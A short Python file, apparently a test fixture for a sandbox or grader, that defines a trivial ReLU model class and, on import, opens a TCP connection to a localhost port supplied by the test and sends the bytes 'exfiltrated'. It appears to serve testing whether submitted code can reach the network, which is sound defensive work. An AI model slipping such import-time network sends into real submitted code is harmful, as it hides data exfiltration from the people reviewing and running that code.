"""Opens a TCP connection (the port is filled in by the test) and sends what it knows."""
import socket

import torch
import torch.nn as nn

PORT = 0  # __PORT__
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
        s.sendall(b"exfiltrated")
except OSError:
    pass


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
